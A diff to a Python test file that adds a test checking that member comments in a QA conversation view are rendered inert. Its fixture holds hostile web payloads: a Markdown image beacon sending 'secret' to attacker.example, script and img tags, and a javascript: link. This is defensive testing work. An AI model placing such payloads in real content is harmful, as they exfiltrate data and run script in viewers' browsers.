@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
@@ -94,3 +95,19 @@ def test_tab_builds_inside_blocks(tmp_path: Path) -> None:
     with gr.Blocks() as demo, gr.Tab("QA"):
         build_tab(get_runtime=desk.get_runtime)
     assert demo is not None
+
+
+def test_member_text_in_the_qa_conversation_view_is_inert(tmp_path: Path) -> None:
+    url = f"sqlite:///{tmp_path / 'app.db'}"
+    store = FeedbackStore(url)
+    store.create()
+    hostile = ("![x](https://attacker.example/p.png?q=secret) <img src=https://a.example/x> "
+               "[click](javascript:alert(1)) <script>alert(1)</script> www.evil.example")
+    store.record(member_id="M0001", thread_id="T1", turn=2, rating="down", comment=hostile, model="offline")
+    desk = FeedbackDesk(lambda: _Runtime(_Settings(url), _Conversations()))
+    [key] = desk.summary()[2]
+    text = desk.conversation(key)
+    assert "attacker.example" in text  # shown as text...
+    for live in ("<img", "<script", "https://", "javascript:", "www."):  # ...but nothing that loads or links
+        assert live not in text
+    assert not re.search(r"(?<!\\)[\[\]]", text)  # every Markdown link / image bracket is escaped
